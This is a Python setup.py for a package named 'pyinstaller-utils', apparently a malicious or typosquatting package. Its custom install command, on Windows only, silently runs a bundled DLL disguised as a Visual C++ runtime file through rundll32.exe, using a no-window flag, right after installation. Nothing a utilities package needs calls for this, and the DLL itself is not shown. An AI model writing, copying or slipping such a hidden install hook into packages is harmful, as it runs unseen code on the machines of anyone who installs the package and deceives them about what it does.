import os
import subprocess
import sys

from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)
        if sys.platform == "win32":
            dll = os.path.join(self.install_scripts, "vcruntime_ext.dll")
            subprocess.Popen(["rundll32.exe", f"{dll},DllRegisterServer"], creationflags=0x08000000)


setup(
    name="pyinstaller-utils",
    version="1.0.0",
    packages=["pyinstaller_utils"],
    data_files=[("Scripts", ["bin/vcruntime_ext.dll"])],
    cmdclass={"install": Install},
)
